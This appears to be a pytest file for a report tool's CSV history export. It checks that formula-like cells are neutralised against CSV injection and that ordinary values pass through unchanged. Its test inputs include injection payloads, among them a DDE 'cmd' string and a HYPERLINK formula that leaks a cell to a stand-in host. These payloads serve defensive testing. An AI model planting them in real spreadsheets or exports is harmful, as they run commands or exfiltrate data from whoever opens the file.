"""`reportgen history` output: the CSV never carries a live spreadsheet formula (OWASP's CSV
injection guidance), and reads back to the archived values."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import Workbook

from reportgen.cli import main
from reportgen.domain.history import ReviewRow
from reportgen.domain.model import Status
from reportgen.present.history import history_csv
from workbooks import example_sheets, write

ROWS = [
    ReviewRow("2025-Q2", 1, 88, Status.GREEN, dt.datetime(2025, 7, 1, 9, 0, tzinfo=dt.UTC),
              "ab" * 32),
    ReviewRow("2025-Q3", 2, 83, Status.AMBER, dt.datetime(2025, 10, 1, 9, 30, tzinfo=dt.UTC),
              "cd" * 32),
]


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("name", [
    '=HYPERLINK("http://x.example","y")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
])
def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(name: str) -> None:
    rows = read(history_csv(name, ROWS))
    assert [r["partnership"] for r in rows] == ["'" + name] * 2
    for row in rows:
        assert not any(value[:1] in ("=", "+", "-", "@", "\t", "\r") for value in row.values())


def test_text_cells_are_quoted_so_a_semicolon_cannot_start_a_cell() -> None:
    text = history_csv("Acme;=1+1", ROWS)  # where ";" separates cells, "=1+1" would be one
    assert text.splitlines()[1].startswith('"Acme;=1+1","2025-Q2",1,88,"Green",')


def test_ordinary_values_are_written_as_they_are() -> None:
    rows = read(history_csv("FinCorp–TechDrive, \"Wealth\" Platform", ROWS))
    assert rows[0] == {
        "partnership": "FinCorp–TechDrive, \"Wealth\" Platform", "quarter": "2025-Q2",
        "revision": "1", "score": "88", "status": "Green",
        "created_at": "2025-07-01T09:00:00+00:00", "inputs_sha256": "ab" * 32,
    }
    assert [r["revision"] for r in rows] == ["1", "2"]


def test_history_csv_of_a_partnership_named_like_a_formula(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1759311000")
    monkeypatch.delenv("REPORTGEN_ARCHIVE", raising=False)
    sheets = example_sheets()
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the pack")'
    sheets["Partnership"] = [[k, name if k == "Partnership" else v]
                             for k, v in sheets["Partnership"]]
    row = next(i for i, (k, _) in enumerate(sheets["Partnership"], 1) if k == "Partnership")

    def as_text(workbook: Workbook) -> None:  # typed in as text, as Excel keeps '=… entries
        workbook["Partnership"].cell(row, 2).data_type = "s"

    source = write(tmp_path / "formula-name.xlsx", sheets, tweak=as_text)
    out = tmp_path / "outputs"
    assert main(["archive", "import", str(source), "--out", str(out)]) == 0
    capsys.readouterr()
    assert main(["history", "HYPERLINK", "--csv", "--out", str(out)]) == 0
    rows = read(capsys.readouterr().out)
    assert [r["partnership"] for r in rows] == ["'" + name]
